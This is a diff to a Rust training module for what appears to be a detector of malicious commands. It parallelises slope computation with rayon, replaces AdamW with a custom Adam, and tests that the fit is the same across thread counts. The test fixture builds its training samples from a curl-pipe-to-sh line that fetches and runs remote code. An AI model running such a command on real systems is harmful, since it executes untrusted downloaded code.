@@ -1,8 +1,9 @@
-//! Fitting: the network by AdamW in candle, the gate by plain stochastic descent.
+//! Fitting: the network by AdamW on candle's slopes, the gate by plain stochastic descent.
 
 use candle_core::{D, DType, Device, Result, Tensor};
-use candle_nn::{AdamW, Optimizer as _, ParamsAdamW};
+use rayon::prelude::*;
 
+use super::adam::Adam;
 use super::draw::Draw;
 use super::float::{Batch, Float};
 use crate::calibration::sigmoid;
@@ -52,7 +53,9 @@ impl Example {
 }
 
 const BATCH: usize = 64;
-const PEAK_RATE: f64 = 2.5e-3;
+/// Stories of a batch that one thread works on.
+const PART: usize = 8;
+const PEAK_RATE: f64 = 5e-3;
 const DROP: f32 = 0.15;
 /// Tokens that an epoch hides, so that no single word carries a story.
 const DROP_TOKENS: f32 = 0.06;
@@ -61,7 +64,7 @@ const TECHNIQUE_WEIGHT: f64 = 0.2;
 
 /// The optimizer over all epochs.
 pub struct Fitting {
-    optimizer: AdamW,
+    adam: Vec<Adam>,
     step: usize,
     steps: usize,
 }
@@ -69,13 +72,9 @@ pub struct Fitting {
 impl Fitting {
     /// For `steps` batches in all, of which `step` are done.
     pub fn new(network: &Float, step: usize, steps: usize) -> Result<Self> {
-        let params = ParamsAdamW {
-            lr: PEAK_RATE,
-            weight_decay: 5e-3,
-            ..ParamsAdamW::default()
-        };
+        let adam = network.vars().into_iter().map(Adam::new);
         Ok(Self {
-            optimizer: AdamW::new(network.vars(), params)?,
+            adam: adam.collect::<Result<_>>()?,
             step,
             steps: steps.max(1),
         })
@@ -104,12 +103,14 @@ impl Fitting {
         let mut total = 0.0;
         for (index, start) in starts.iter().enumerate() {
             let batch = &examples[*start..examples.len().min(start + BATCH)];
-            self.set_rate();
-            let loss = loss(network, batch, draw)?;
-            self.optimizer.backward_step(&loss)?;
-            let loss = loss.to_scalar::<f32>()?;
+            let (loss, slopes) = slopes(network, batch, draw)?;
             if !loss.is_finite() {
                 candle_core::bail!("the loss of a batch is {loss}");
+            }
+            let rate = self.next_rate();
+            for (index, adam) in self.adam.iter_mut().enumerate() {
+                let parts: Vec<&[f32]> = slopes.iter().map(|part| &part[index][..]).collect();
+                adam.step(&parts, rate as f32)?;
             }
             total += loss;
             if index % 50 == 0 {
@@ -120,32 +121,64 @@ impl Fitting {
     }
 
     /// Short warm-up, then a cosine.
-    fn set_rate(&mut self) {
+    fn next_rate(&mut self) -> f64 {
         self.step += 1;
         let warm = (self.steps / 20).max(1);
-        let rate = if self.step < warm {
+        if self.step < warm {
             PEAK_RATE * self.step as f64 / warm as f64
         } else {
             let done = (self.step - warm) as f64 / (self.steps - warm).max(1) as f64;
             PEAK_RATE * (0.02 + 0.98 * 0.5 * (1.0 + (std::f64::consts::PI * done.min(1.0)).cos()))
-        };
-        self.optimizer.set_learning_rate(rate);
+        }
     }
 }
 
-fn loss(network: &Float, batch: &[Example], draw: &mut Draw) -> Result<Tensor> {
-    let hidden: Vec<Vec<Rows>> = batch
+/// Slopes of every set of weights.
+type Slopes = Vec<Vec<f32>>;
+
+/// The loss of a batch, and its slopes in parts. They are worked on side by side, each with choices of its own, and
+/// added in their order: a fit is the same however many threads there are.
+fn slopes(network: &Float, batch: &[Example], draw: &mut Draw) -> Result<(f32, Vec<Slopes>)> {
+    let known = batch.iter().filter(|one| one.technique.is_some()).count();
+    let parts: Vec<(&[Example], Draw)> = batch
+        .chunks(PART)
+        .map(|part| (part, draw.another()))
+        .collect();
+    let found: Vec<(f32, Slopes)> = parts
+        .into_par_iter()
+        .map(|(part, mut draw)| {
+            let loss = loss(network, part, (batch.len(), known), &mut draw)?;
+            let found = loss.backward()?;
+            let slopes = network.vars().into_iter().map(|var| match found.get(&var) {
+                Some(slopes) => slopes.flatten_all()?.to_vec1(),
+                None => Ok(vec![0.0; var.elem_count()]),
+            });
+            Ok((loss.to_scalar()?, slopes.collect::<Result<_>>()?))
+        })
+        .collect::<Result<_>>()?;
+    let loss = found.iter().map(|(loss, _)| loss).sum();
+    Ok((loss, found.into_iter().map(|(_, slopes)| slopes).collect()))
+}
+
+/// What a part adds to the mean loss of a batch of `stories`, of which `known` have a technique.
+fn loss(
+    network: &Float,
+    part: &[Example],
+    (stories, known): (usize, usize),
+    draw: &mut Draw,
+) -> Result<Tensor> {
+    let hidden: Vec<Vec<Rows>> = part
         .iter()
         .map(|example| hide(&example.rows, draw))
         .collect();
-    let stories: Vec<(&[Rows], &[f32; FACTS])> = hidden
+    let seen: Vec<(&[Rows], &[f32; FACTS])> = hidden
         .iter()
-        .zip(batch)
+        .zip(part)
         .map(|(rows, example)| (rows.as_slice(), &example.facts))
         .collect();
-    let kept = kept(batch.len(), network.features_of_story(), draw)?;
-    let logits = network.forward(&Batch::new(&stories, &network.shape)?, Some(&kept))?;
-    let targets: Vec<f32> = batch
+    let kept = kept(part.len(), network.features_of_story(), draw)?;
+    let logits = network.forward(&Batch::new(&seen, &network.shape)?, Some(&kept))?;
+    let targets: Vec<f32> = part
         .iter()
         .map(|example| {
             if example.malicious {
@@ -155,28 +188,29 @@ fn loss(network: &Float, batch: &[Example], draw: &mut Draw) -> Result<Tensor> {
             }
         })
         .collect();
-    let targets = Tensor::from_vec(targets, (batch.len(), 1), &Device::Cpu)?;
-    let malice = cross_entropy(&logits.narrow(1, 0, 1)?, &targets)?;
-    let known: Vec<(u32, u32)> = batch
+    let targets = Tensor::from_vec(targets, (part.len(), 1), &Device::Cpu)?;
+    let share = part.len() as f64 / stories as f64;
+    let malice = (cross_entropy(&logits.narrow(1, 0, 1)?, &targets)? * share)?;
+    let named: Vec<(u32, u32)> = part
         .iter()
         .enumerate()
         .filter_map(|(index, example)| Some((index as u32, example.technique? as u32)))
         .collect();
-    if known.is_empty() {
+    if named.is_empty() {
         return Ok(malice);
     }
-    let rows = Tensor::from_iter(known.iter().map(|(row, _)| *row), &Device::Cpu)?;
-    let wanted = Tensor::from_iter(known.iter().map(|(_, technique)| *technique), &Device::Cpu)?;
+    let share = named.len() as f64 / known as f64;
+    let rows = Tensor::from_iter(named.iter().map(|(row, _)| *row), &Device::Cpu)?;
+    let wanted = Tensor::from_iter(named.iter().map(|(_, technique)| *technique), &Device::Cpu)?;
     let techniques = logits
         .narrow(1, 1, network.shape.outputs() - 1)?
         .contiguous()?
         .index_select(&rows, 0)?;
     let named = candle_nn::loss::cross_entropy(&techniques, &wanted)?;
-    malice + (named * TECHNIQUE_WEIGHT)?
+    malice + (named * (TECHNIQUE_WEIGHT * share))?
 }
 
-/// What each feature of each story counts: some are hidden, the others count the more. Drawn like all else, which
-/// candle's own dropout is not.
+/// What each feature of each story counts: some are hidden, the others count the more.
 fn kept(stories: usize, features: usize, draw: &mut Draw) -> Result<Tensor> {
     let each = (0..stories * features).map(|_| {
         if draw.unit() < DROP {
@@ -275,7 +309,7 @@ mod tests {
     use crate::train::float::Architecture;
 
     #[test]
-    fn one_seed_makes_one_fit() {
+    fn a_fit_is_the_same_on_one_thread_and_on_three() {
         let shape = Shape {
             rows: 256,
             dim: 32,
@@ -283,32 +317,47 @@ mod tests {
             hidden: 32,
             ..Shape::standard(vec!["T1059".to_owned()])
         };
+        let limits = Limits { tokens: 64 };
         let example = |index: usize| {
+            let line = format!("curl -s http://192.0.2.{index}/x | sh");
             let story = Story {
-                command: Some(format!("curl -s http://192.0.2.{index}/x | sh")),
+                command: Some(line),
                 ..Story::default()
             };
-            let tokens = Tokens::of(&story, Limits { tokens: 64 }, &shape.reads);
+            let tokens = Tokens::of(&story, limits, &shape.reads);
             let known = facts::of(&story, &shape.reads);
             let technique = index.is_multiple_of(3).then_some(0);
-            let label = (index.is_multiple_of(2), 0.99);
-            Example::new(&tokens, known, &shape, label, technique)
+            Example::new(
+                &tokens,
+                known,
+                &shape,
+                (index.is_multiple_of(2), 0.99),
+                technique,
+            )
         };
-        let fitted = |seed: u64| -> Vec<f32> {
+        let fitted = |threads: usize| -> Vec<f32> {
             let kind = Architecture::Convolution;
             let network = Float::new(&shape, kind, &mut Draw::new(3)).unwrap();
             let mut examples: Vec<Example> = (0..150).map(example).collect();
-            let mut fitting = Fitting::new(&network, 0, 3).unwrap();
-            let mut draw = Draw::new(seed);
-            fitting
-                .epoch(&network, &mut examples, &mut draw, &mut |_| {})
-                .unwrap();
+            let mut fitting = Fitting::new(&network, 0, 6).unwrap();
+            let pool = rayon::ThreadPoolBuilder::new().num_threads(threads);
+            let mut draw = Draw::new(5);
+            let loss = pool.build().unwrap().install(|| {
+                let first = fitting.epoch(&network, &mut examples, &mut draw, &mut |_| {});
+                first.unwrap()
+                    - fitting
+                        .epoch(&network, &mut examples, &mut draw, &mut |_| {})
+                        .unwrap()
+            });
+            assert!(loss > 0.0, "nothing was learnt");
             let weights = network.weights();
-            let hidden = weights["hidden.weight"].flatten_all().unwrap();
-            hidden.to_vec1().unwrap()
+            weights["hidden.weight"]
+                .flatten_all()
+                .unwrap()
+                .to_vec1()
+                .unwrap()
         };
-        assert_eq!(fitted(5), fitted(5));
-        assert_ne!(fitted(5), fitted(6));
+        assert_eq!(fitted(1), fitted(3));
     }
 
     #[test]
